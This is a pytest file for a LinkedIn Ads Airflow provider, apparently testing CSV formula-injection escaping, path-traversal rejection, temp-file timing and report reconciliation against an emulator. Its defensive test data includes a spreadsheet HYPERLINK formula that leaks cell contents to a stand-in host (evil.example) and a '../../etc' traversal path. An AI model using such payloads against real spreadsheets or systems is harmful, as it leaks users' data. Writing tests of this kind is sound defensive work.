"""Files that are never wrong: CSV formula neutralisation, ``..`` paths, the temp file's birth, ``reconcile``.

Every case runs the operator's ``execute()`` against the bundled emulator on 127.0.0.1 (real HTTP,
real files in ``tmp_path``). The CSV cases use a small world whose campaigns carry the names an
attacker would choose.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import TYPE_CHECKING

import pytest

from airflow_provider_linkedin_ads.client import landing
from airflow_provider_linkedin_ads.errors import ConfigurationError, ReconciliationError
from airflow_provider_linkedin_ads.operators import _base
from airflow_provider_linkedin_ads.operators.ad_analytics import (
    LinkedInAdsAnalyticsOperator,
    LinkedInAdsAttributedRevenueOperator,
    LinkedInAdsStatisticsOperator,
)
from airflow_provider_linkedin_ads.testing import EmulatorServer, World
from airflow_provider_linkedin_ads.testing.emulator import DEFAULT_MEMBER
from airflow_provider_linkedin_ads.testing.pytest_plugin import CONN_ENV_VAR, connection_json
from airflow_provider_linkedin_ads.utils.landing import TEMP_MARKER, AtomicLanding

if TYPE_CHECKING:
    from collections.abc import Iterator

#: Campaign names that a spreadsheet would run as formulas (the issue's examples, and tab/CR).
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
)
END = "2026-11-20"
METRICS = ["impressions", "clicks", "costInLocalCurrency", "approximateMemberReach", "averageDwellTime"]


@pytest.fixture
def emulator(linkedin_ads_emulator, linkedin_ads_connection, monkeypatch):
    monkeypatch.setattr(_base, "utcnow", linkedin_ads_emulator.clock.now)
    return linkedin_ads_emulator


@pytest.fixture
def accounts(linkedin_ads_emulator) -> list[int]:
    return sorted(linkedin_ads_emulator.world.accounts_for_member(DEFAULT_MEMBER))


def formula_world() -> World:
    """A small world whose campaigns are named like formulas (and one plain name)."""
    data = World(
        seed=11, accounts=1, campaigns_per_account=8, creatives_per_campaign=1, history_days=60
    ).to_dict()
    names = [*FORMULA_NAMES, "Brand - EMEA"]
    for campaign, name in zip(data["campaigns"], names * 2, strict=False):
        campaign.update(name=name, start="2026-10-01", end=None)
    data["members"] = {DEFAULT_MEMBER: [account["id"] for account in data["accounts"]]}
    return World.from_dict(data)


@pytest.fixture
def formula_emulator(monkeypatch) -> Iterator[EmulatorServer]:
    with EmulatorServer(formula_world()) as server:
        monkeypatch.setenv(CONN_ENV_VAR, connection_json(server))
        monkeypatch.setattr(_base, "utcnow", server.clock.now)
        yield server


def analytics(**overrides) -> LinkedInAdsAnalyticsOperator:
    kwargs = {"task_id": "report", "pivot": "CAMPAIGN", "metrics": ["impressions", "clicks"], **overrides}
    return LinkedInAdsAnalyticsOperator(**kwargs)


def csv_rows(path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


# ── CSV formula injection ────────────────────────────────────────────────────────────────────────


def test_csv_neutralises_campaign_names_that_are_formulas(formula_emulator, tmp_path):
    out = tmp_path / "report.csv"
    summary = analytics(
        metrics=["impressions", "costInLocalCurrency"],
        date_range_start="2026-11-01",
        date_range_end=END,
        resolve_names=True,
        output_format="csv",
        output_path=f"file://{out}",
    ).execute({})
    rows = csv_rows(out)
    assert summary["rows_written"] == len(rows) > 0
    names = {row["campaign_name"] for row in rows}
    assert {"'" + name for name in FORMULA_NAMES} <= names
    assert "Brand - EMEA" in names  # a dash inside a name is harmless and kept
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    for row in rows:
        assert row["campaign"].startswith("urn:li:sponsoredCampaign:")
        Decimal(row["costInLocalCurrency"])  # numbers stay numbers
        int(row["impressions"])


def test_csv_opt_out_and_json_lines_keep_the_names_verbatim(formula_emulator, tmp_path):
    common = {"date_range_start": "2026-11-01", "date_range_end": END, "resolve_names": True}
    analytics(
        output_format="csv", csv_escape_formulas=False, output_path=f"file://{tmp_path}/r.csv", **common
    ).execute({})
    analytics(output_path=f"file://{tmp_path}/r.jsonl", **common).execute({})
    verbatim = {row["campaign_name"] for row in csv_rows(tmp_path / "r.csv")}
    jsonl = {json.loads(line)["campaign_name"] for line in (tmp_path / "r.jsonl").read_text().splitlines()}
    assert set(FORMULA_NAMES) <= verbatim
    assert set(FORMULA_NAMES) <= jsonl


def test_csv_escape_formulas_must_be_a_flag():
    with pytest.raises(ConfigurationError) as info:
        analytics(csv_escape_formulas="yes")
    assert info.value.argument == "csv_escape_formulas"


# ── output paths and the temporary file ─────────────────────────────────────────────────────────


def test_parent_segments_in_a_literal_output_path_fail_at_parse_time(tmp_path):
    with pytest.raises(ConfigurationError) as info:
        analytics(output_path=f"file://{tmp_path}/linkedin/../../etc/report.jsonl")
    assert info.value.argument == "output_path"


def test_parent_segments_in_a_rendered_output_path_fail_before_any_call(emulator, accounts, tmp_path):
    op = analytics(accounts=accounts, date_range_end=END, output_path="{{ params.out }}")
    op.output_path = f"file://{tmp_path}/linkedin/../report.jsonl"  # as rendering leaves it
    with pytest.raises(ConfigurationError) as info:
        op.execute({})
    assert info.value.argument == "output_path"
    assert [record.path for record in emulator.requests if record.path.startswith("/rest/")] == []
    assert list(tmp_path.iterdir()) == []


def test_the_temporary_file_is_created_after_the_first_rows_were_fetched(
    emulator, accounts, tmp_path, monkeypatch
):
    calls_at_creation: list[int] = []
    create = AtomicLanding._create_temp

    def recording(self):
        calls_at_creation.append(emulator.counters.calls["adAnalytics"])
        return create(self)

    monkeypatch.setattr(AtomicLanding, "_create_temp", recording)
    analytics(
        accounts=accounts,
        date_range_end=END,
        output_path=f"file://{tmp_path}/r.parquet",
        output_format="parquet",
    ).execute({})
    assert len(calls_at_creation) == 1
    assert calls_at_creation[0] >= 1
    assert [path.name for path in tmp_path.iterdir()] == ["r.parquet"]
    assert not any(TEMP_MARKER in path.name for path in tmp_path.iterdir())


# ── reconcile ────────────────────────────────────────────────────────────────────────────────────


def test_reconcile_passes_for_a_correct_report(emulator, accounts, tmp_path):
    out = tmp_path / "r.jsonl"
    summary = analytics(
        accounts=accounts,
        metrics=METRICS,
        date_range_start="2026-11-01",
        date_range_end=END,
        output_path=f"file://{out}",
        reconcile=True,
    ).execute({})
    check = summary["reconcile"]
    assert check["status"] == "passed", check
    assert set(check["metrics"]) == {"impressions", "clicks", "costInLocalCurrency"}
    assert all(item["match"] for item in check["metrics"].values())
    assert check["metrics"]["impressions"]["expected"] > 0
    assert set(check["not_compared"]) == {"approximateMemberReach", "averageDwellTime"}
    assert check["date_range"] == {"start": "2026-11-01", "end": END}
    assert check["calls_made"] >= 1
    # The landed file really sums to what LinkedIn said.
    landed = [json.loads(line) for line in out.read_text().splitlines()]
    assert sum(row["clicks"] or 0 for row in landed) == check["metrics"]["clicks"]["expected"]
    total_cost = sum(Decimal(row["costInLocalCurrency"] or "0") for row in landed)
    assert str(total_cost) == check["metrics"]["costInLocalCurrency"]["expected"]
    totals_calls = [record for record in emulator.requests if record.params.get("timeGranularity") == "ALL"]
    assert totals_calls
    assert all(record.params.get("pivot") == "ACCOUNT" for record in totals_calls)


def tamper(monkeypatch, metric: str, delta: int = 1) -> None:
    """Alter one value of the first row on its way from the engine to the writer."""
    named_rows = landing.named_rows

    def tampered(*args, **kwargs):
        columns, rows = named_rows(*args, **kwargs)

        def altered():
            for index, row in enumerate(rows):
                if index == 0:
                    row = {**row, metric: (row.get(metric) or 0) + delta}
                yield row

        return columns, altered()

    monkeypatch.setattr(landing, "named_rows", tampered)


def test_reconcile_fails_a_tampered_report_naming_the_metric_and_lands_nothing(
    emulator, accounts, tmp_path, monkeypatch
):
    out = tmp_path / "r.jsonl"
    out.write_bytes(b"previous complete report\n")
    tamper(monkeypatch, "clicks", delta=-1)
    op = analytics(
        accounts=accounts,
        metrics=METRICS,
        date_range_start="2026-11-01",
        date_range_end=END,
        output_path=f"file://{out}",
        reconcile=True,
    )
    with pytest.raises(ReconciliationError) as info:
        op.execute({})
    err = info.value
    assert err.metric == "clicks"
    assert int(err.expected) == int(err.landed) + 1
    assert f"clicks: expected {err.expected}, landed {err.landed}" in str(err)
    assert set(err.mismatches) == {"clicks"}
    assert out.read_bytes() == b"previous complete report\n"
    assert [path.name for path in tmp_path.iterdir()] == ["r.jsonl"]


def test_reconcile_warn_mode_lands_the_file_and_reports_the_mismatch(
    emulator, accounts, tmp_path, monkeypatch
):
    tamper(monkeypatch, "impressions", delta=5)
    summary = analytics(
        accounts=accounts,
        date_range_end=END,
        output_path=f"file://{tmp_path}/r.jsonl",
        reconcile=True,
        reconcile_mode="warn",
    ).execute({})
    check = summary["reconcile"]
    assert check["status"] == "failed"
    assert check["metrics"]["impressions"]["landed"] == check["metrics"]["impressions"]["expected"] + 5
    assert check["metrics"]["clicks"]["match"] is True
    assert (tmp_path / "r.jsonl").exists()


def test_reconcile_of_xcom_rows(emulator, accounts):
    summary = analytics(accounts=accounts, date_range_end=END, reconcile=True).execute({})
    assert summary["reconcile"]["status"] == "passed"
    assert summary["rows"]


def test_reconcile_a_statistics_report_split_by_device(emulator, accounts, tmp_path):
    summary = LinkedInAdsStatisticsOperator(
        task_id="report",
        pivots=["CAMPAIGN", "IMPRESSION_DEVICE_TYPE"],
        metrics=["impressions", "clicks", "costInUsd"],
        accounts=accounts,
        time_granularity="MONTHLY",
        date_range_start="2026-09-15",
        date_range_end=END,
        output_path=f"file://{tmp_path}/r.csv",
        output_format="csv",
        reconcile=True,
    ).execute({})
    assert summary["reconcile"]["status"] == "passed", summary["reconcile"]


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        pytest.param(
            lambda accounts: analytics(pivot="MEMBER_JOB_FUNCTION", accounts=accounts, date_range_end=END),
            "top 100",
            id="demographic",
        ),
        pytest.param(
            lambda accounts: analytics(pivot="CONVERSION", accounts=accounts, date_range_end=END),
            "CONVERSION",
            id="conversion-pivot",
        ),
        pytest.param(
            lambda accounts: analytics(
                accounts=accounts, date_range_start="2026-01-15", date_range_end="2026-02-10"
            ),
            "month boundaries",
            id="daily-report-older-than-6-months",
        ),
        pytest.param(
            lambda accounts: LinkedInAdsAttributedRevenueOperator(
                task_id="report",
                account=accounts[0],
                pivots=["CAMPAIGN"],
                date_range_start="2026-10-01",
                date_range_end=END,
            ),
            "attributed revenue",
            id="attributed-revenue",
        ),
        pytest.param(
            lambda accounts: analytics(
                accounts=accounts, metrics=["approximateMemberReach"], date_range_end=END
            ),
            "additive",
            id="no-additive-metric",
        ),
    ],
)
def test_reconcile_skips_what_linkedin_says_does_not_add_up(emulator, accounts, make, reason):
    op = make(accounts)
    op.reconcile = True
    summary = op.execute({})
    check = summary["reconcile"]
    assert check["status"] == "skipped"
    assert reason in check["reason"]
    assert check["metrics"] == {}


def test_reconcile_compares_an_all_report_rounded_to_months_like_its_check(emulator, accounts):
    # Both the report and the check are rounded by LinkedIn to 2026-01-01..2026-02-28: same days.
    summary = analytics(
        accounts=accounts,
        time_granularity="ALL",
        date_range_start="2026-01-15",
        date_range_end="2026-02-10",
        reconcile=True,
    ).execute({})
    check = summary["reconcile"]
    assert check["status"] == "passed", check
    assert check["date_range"] == {"start": "2026-01-01", "end": "2026-02-28"}


def test_reconcile_arguments_are_checked_at_parse_time():
    with pytest.raises(ConfigurationError) as info:
        analytics(reconcile="true")
    assert info.value.argument == "reconcile"
    with pytest.raises(ConfigurationError) as info:
        analytics(reconcile=True, reconcile_mode="ignore")
    assert info.value.argument == "reconcile_mode"
    assert analytics(reconcile=True, reconcile_mode="WARN").reconcile_mode == "warn"


def test_without_reconcile_the_summary_has_no_check_and_no_extra_call(emulator, accounts):
    summary = analytics(accounts=accounts, date_range_end=END).execute({})
    assert "reconcile" not in summary
    assert not [record for record in emulator.requests if record.params.get("timeGranularity") == "ALL"]
